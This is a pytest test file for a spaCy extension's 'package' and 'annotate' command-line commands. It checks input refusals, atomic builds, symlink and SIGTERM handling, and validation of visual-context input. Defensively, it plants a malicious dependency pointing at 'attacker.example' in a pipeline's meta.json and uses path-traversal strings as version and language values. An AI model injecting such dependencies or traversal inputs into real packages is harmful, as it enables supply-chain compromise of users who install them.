"""`python -m spacy_ita package`: its refusals, before anything is written, a
build that is in OUTPUT_DIR whole or not at all, and a wheel named and
requiring as the command says whatever the pipeline's meta.json holds; and
`annotate`'s refusals, in one line."""
import importlib
import json
import os
import re
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
import spacy
from typer.testing import CliRunner

from helpers import trained_pipeline
from spacy_ita.cli import app


@pytest.fixture(scope="module")
def pipeline_dir(tiny_encoder, tmp_path_factory):
    path = tmp_path_factory.mktemp("package") / "pipeline"
    trained_pipeline(tiny_encoder).to_disk(path)
    return path


def invoke(*args):
    """The exit code and the output, without wasabi's colours and line wrapping;
    an error other than an exit (a traceback) fails the test."""
    result = CliRunner().invoke(app, list(map(str, args)))
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exc_info
    return result.exit_code, " ".join(re.sub(r"\x1b\[[0-9;]*m", "", result.output).split())


def package(*args):
    return invoke("package", *args)


def test_what_package_refuses(pipeline_dir, tmp_path):
    spacy.blank("en").to_disk(tmp_path / "blank")
    code, output = package(tmp_path / "blank", tmp_path / "out", "--name", "x")
    assert code == 1 and "has no ita_ner component (its components: none)" in output
    code, output = package(pipeline_dir, tmp_path / "out", "--name", "en_x")
    assert code == 1 and "leave out the language prefix 'en_'" in output
    kept = tmp_path / "out" / "en_x-0.1.0" / "notes.txt"
    kept.parent.mkdir(parents=True)
    kept.write_text("mine")
    code, output = package(pipeline_dir, tmp_path / "out", "--name", "x")
    assert code == 1 and "en_x-0.1.0 exists already; --force replaces it" in output
    assert kept.read_text() == "mine"


@pytest.fixture
def unusable_inputs(tmp_path):
    """tmp_path with a folder that is no pipeline, one with a broken meta.json, one
    with a broken config.cfg, a file, and posts that are not a .spacy corpus."""
    (tmp_path / "empty").mkdir()
    (tmp_path / "broken").mkdir()
    (tmp_path / "broken" / "meta.json").write_text('{"lang": "en",')
    (tmp_path / "badconfig").mkdir()
    (tmp_path / "badconfig" / "meta.json").write_text('{"lang": "en", "name": "x", "version": "1"}')
    (tmp_path / "badconfig" / "config.cfg").write_text("no sections\n")
    (tmp_path / "afile").write_text("")
    (tmp_path / "posts.jsonl").write_text('{"text": "Sunset over Phoenix"}\n')
    return tmp_path


@pytest.mark.parametrize("model, output_dir, options, error", [
    ("empty", "out", ["--name", "x"], "{tmp}/empty is not a pipeline: it has no meta.json"),
    ("broken", "out", ["--name", "x"], "{tmp}/broken/meta.json is broken: "),
    ("badconfig", "out", ["--name", "x"],
     "{tmp}/badconfig is not a pipeline spaCy can load: Config validation error"),
    ("pipeline", "afile", ["--name", "x"], "OUTPUT_DIR {tmp}/afile: cannot make the folder"),
    ("pipeline", "out", ["--name", "x", "--context-from", "{tmp}/posts.jsonl"],
     "--context-from: spacy-ita.MultimodalCorpus.v1: cannot read {tmp}/posts.jsonl: it is "
     "truncated or not a .spacy file"),
    ("pipeline", "out", ["--name", "not-a-module"], "--name not-a-module: not a package name"),
])
def test_unusable_inputs_fail_in_one_line_and_create_nothing(
        pipeline_dir, unusable_inputs, model, output_dir, options, error):
    tmp = unusable_inputs
    before = sorted(tmp.rglob("*"))
    code, output = package(pipeline_dir if model == "pipeline" else tmp / model, tmp / output_dir,
                           *(option.format(tmp=tmp) for option in options))
    assert code == 1 and error.format(tmp=tmp) in output
    assert sorted(tmp.rglob("*")) == before


@pytest.mark.parametrize("version, refusal", [
    ("1/../../outside", "not a PEP 440 version"),
    ("abc", "not a PEP 440 version"),
    ("v1.0", "write it as 1.0, PEP 440's normal form"),
    ("1.0+" + 260 * "a", "too long with --name x (265 characters together; at most 200"),
])
def test_version_is_checked_before_anything_is_written(pipeline_dir, tmp_path, version, refusal):
    (tmp_path / "a").mkdir()
    code, output = package(pipeline_dir, tmp_path / "a" / "out", "--name", "x",
                           "--version", version, "--force")
    assert code == 1 and f"--version {version}: {refusal}" in output
    assert [p.name for p in tmp_path.rglob("*")] == ["a"]


def test_a_failed_build_leaves_nothing_and_keeps_what_it_was_to_replace(
        pipeline_dir, tmp_path, monkeypatch):
    # The module: the name spacy.cli.package is its function.
    spacy_package = importlib.import_module("spacy.cli.package")
    real = spacy_package.package

    def wheel_fails(*args, **kwargs):
        real(*args, **{**kwargs, "create_wheel": False})  # the package folder, then
        sys.exit(1)  # as spaCy exits when setup.py fails

    monkeypatch.setattr(spacy_package, "package", wheel_fails)
    code, _ = package(pipeline_dir, tmp_path / "out", "--name", "x")
    assert code == 1 and list((tmp_path / "out").iterdir()) == []
    kept = tmp_path / "out" / "en_x-0.1.0" / "notes.txt"
    kept.parent.mkdir()
    kept.write_text("mine")
    code, _ = package(pipeline_dir, tmp_path / "out", "--name", "x", "--force")
    assert code == 1 and sorted(p.name for p in (tmp_path / "out").rglob("*")) == [
        "en_x-0.1.0", "notes.txt"]


def test_the_package_is_moved_into_place_whole(pipeline_dir, tmp_path):
    old = tmp_path / "out" / "en_x-1.0.0rc1" / "notes.txt"
    old.parent.mkdir(parents=True)
    old.write_text("the last build")
    code, output = package(pipeline_dir, tmp_path / "out", "--name", "x", "--version", "1.0.0rc1",
                           "--force")
    wheel = tmp_path / "out" / "en_x-1.0.0rc1" / "dist" / "en_x-1.0.0rc1-py3-none-any.whl"
    assert code == 0 and f"Built {wheel}: pipeline ita_ner; requirements: spacy-ita" in output
    assert [p.name for p in (tmp_path / "out").iterdir()] == ["en_x-1.0.0rc1"]
    assert not old.exists()


def test_a_link_to_nothing_as_the_package_folder_is_refused_before_the_build(
        pipeline_dir, tmp_path):
    """The build went through, then moving the package onto the link failed
    (NotADirectoryError)."""
    link = tmp_path / "out" / "en_x-0.1.0"
    link.parent.mkdir()
    link.symlink_to(tmp_path / "nowhere")
    code, output = package(pipeline_dir, tmp_path / "out", "--name", "x", "--force")
    assert code == 1
    assert f"{link} is a link to {tmp_path / 'nowhere'}, which does not exist" in output
    assert "Building package artifacts" not in output
    assert list((tmp_path / "out").iterdir()) == [link]


@pytest.mark.parametrize("model, output_dir", [
    ("out/en_x-0.1.0", "out"),  # the package folder is MODEL
    ("out/en_x-0.1.0/pipeline", "out"),  # it holds MODEL
    ("pipeline", "pipeline"),  # it is in MODEL
])
def test_a_package_folder_that_is_holds_or_is_in_the_model_is_refused(
        pipeline_dir, tmp_path, model, output_dir):
    """--force replaced the pipeline with its own package (its config.cfg gone)."""
    shutil.copytree(pipeline_dir, tmp_path / model)
    before = sorted(tmp_path.rglob("*"))
    code, output = package(tmp_path / model, tmp_path / output_dir, "--name", "x", "--force")
    assert code == 1 and (f"The package folder {tmp_path / output_dir / 'en_x-0.1.0'} is MODEL "
                          f"({tmp_path / model}), holds it or is in it") in output
    assert "Building package artifacts" not in output
    assert sorted(tmp_path.rglob("*")) == before


def with_meta(pipeline_dir, path, **meta):
    """A copy of the pipeline at `path` whose meta.json also holds `meta`."""
    shutil.copytree(pipeline_dir, path)
    data = json.loads((path / "meta.json").read_text())
    (path / "meta.json").write_text(json.dumps({**data, **meta}))
    return path


@pytest.mark.parametrize("lang", ["../../../x", "de"])
def test_the_package_is_named_from_the_pipeline_s_language_not_from_its_meta(
        pipeline_dir, tmp_path, lang):
    """spaCy's package named its folders from meta.json's lang, which spacy.load
    keeps beside the config's: "../../../x" built beside OUTPUT_DIR (and failed), "de" built
    de_x, where package looked for en_x."""
    model = with_meta(pipeline_dir, tmp_path / "model", lang=lang)
    output_dir = tmp_path / "a" / "b" / "out"
    code, output = package(model, output_dir, "--name", "x")
    assert code == 0, output
    assert sorted(p.relative_to(tmp_path) for p in tmp_path.rglob("*")
                  if output_dir not in p.parents and "model" not in p.parts) == [
        Path("a"), Path("a/b"), Path("a/b/out")]
    assert [p.name for p in output_dir.iterdir()] == ["en_x-0.1.0"]
    assert (output_dir / "en_x-0.1.0" / "dist" / "en_x-0.1.0-py3-none-any.whl").is_file()


def wheel_requirements(wheel):
    with zipfile.ZipFile(wheel) as archive:
        lines = archive.read("en_x-0.1.0.dist-info/METADATA").decode().splitlines()
    return [line.split(": ", 1)[1] for line in lines if line.startswith("Requires-Dist: ")]


def test_the_wheel_requires_what_package_says_and_nothing_from_the_meta(
        pipeline_dir, tmp_path, monkeypatch):
    """spaCy's setup.py adds meta.json's setup_requires to the wheel's
    requirements, which the command's message did not show: any URL a pipeline's
    meta names would be installed with the package. A wheel that requires
    anything else than the message says is refused."""
    evil = "evil-pkg @ https://attacker.example/evil-1.0.tar.gz"
    model = with_meta(pipeline_dir, tmp_path / "model", setup_requires=[evil])
    code, output = package(model, tmp_path / "out", "--name", "x")
    assert code == 0, output
    assert f"{model}/meta.json: its setup_requires (['{evil}']) are left out" in output
    required = wheel_requirements(tmp_path / "out" / "en_x-0.1.0" / "dist" /
                                  "en_x-0.1.0-py3-none-any.whl")
    assert len(required) == 1 and required[0].startswith("spacy-ita<"), required
    assert f"requirements: {required[0].split('<')[0]}>=" in output

    spacy_package = importlib.import_module("spacy.cli.package")
    monkeypatch.setattr(spacy_package, "TEMPLATE_SETUP", spacy_package.TEMPLATE_SETUP.replace(
        "install_requires=list_requirements(meta)",
        "install_requires=list_requirements(meta) + ['evil-pkg']"))
    code, output = package(pipeline_dir, tmp_path / "out2", "--name", "x")
    assert code == 1 and re.search(r"The wheel requires evil-pkg, spacy-ita<\S+, not spacy-ita>=",
                                   output), output
    assert list((tmp_path / "out2").iterdir()) == []


def test_sigterm_during_the_build_stops_it_and_leaves_nothing(pipeline_dir, tmp_path):
    """SIGTERM (a scheduler, `timeout`) killed package while setup.py built the
    wheel, leaving its hidden staging folder in OUTPUT_DIR and the build running.
    It now ends the run through its clean-up, with the signal's exit status,
    the build stopped."""
    pid_file = tmp_path / "build.pid"
    build = ("import os, pathlib, signal, sys, time\n"
             "pathlib.Path(sys.argv[1]).write_text(str(os.getpid()))\n"
             "os.kill(os.getppid(), signal.SIGTERM)\n"
             "time.sleep(120)\n")
    script = ("import importlib, subprocess, sys\n"
              "spacy_package = importlib.import_module('spacy.cli.package')\n"
              "real = spacy_package.package\n"
              "def package_then_build(*args, **kwargs):\n"
              "    real(*args, **{**kwargs, 'create_wheel': False})\n"
              f"    subprocess.run([sys.executable, '-c', {build!r}, {str(pid_file)!r}],\n"
              "                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
              "spacy_package.package = package_then_build\n"
              "from spacy_ita.cli import app\n"
              "app(['package', *sys.argv[1:]])\n")
    result = subprocess.run([sys.executable, "-c", script, str(pipeline_dir), str(tmp_path / "out"),
                             "--name", "x"], capture_output=True, text=True, timeout=300)
    assert result.returncode == 143, result.stdout[-2000:] + result.stderr[-2000:]
    assert list((tmp_path / "out").iterdir()) == []
    with pytest.raises(ProcessLookupError):
        os.kill(int(pid_file.read_text()), 0)


@pytest.mark.parametrize("context, error", [
    ("not json", "Expecting value: line 1 column 1 (char 0)"),
    ("[1, 2]", "Expected a dict for VisualContext, got list"),
    ('{"captions": "a player"}', "VisualContext.captions must be a list of strings, got str"),
    ('{"colour": "red"}', "Unknown visual context field(s) ['colour']"),
    ('{"captions": ["\\ud83d"]}', "VisualContext.captions[0] contains a lone surrogate"),
])
def test_annotate_refuses_a_context_that_is_no_visual_context_in_one_line(
        pipeline_dir, context, error):
    code, output = invoke("annotate", pipeline_dir, "-t", "Messi joins Miami", "-c", context)
    assert code == 1 and f"--context: {error}" in output


def test_annotate_names_a_pipeline_it_cannot_load(tmp_path):
    code, output = invoke("annotate", tmp_path / "nope", "-t", "Messi joins Miami")
    assert code == 1
    assert f"{tmp_path}/nope is not a pipeline spaCy can load: [E050] Can't find model" in output
    (tmp_path / "listed").mkdir()
    (tmp_path / "listed" / "meta.json").write_text("[]")
    code, output = invoke("annotate", tmp_path / "listed", "-t", "Messi joins Miami")
    assert code == 1 and f"{tmp_path}/listed/meta.json is broken: [E054]" in output


def test_annotate_says_when_the_pipeline_does_not_read_the_image(pipeline_dir, tmp_path):
    code, output = invoke("annotate", pipeline_dir, "-t", "Messi joins Miami",
                          "-i", tmp_path / "post.jpg")
    assert code == 0
    assert f"--image {tmp_path}/post.jpg is not read: the pipeline has no ita_context" in output
    assert "visual context (none)" in output
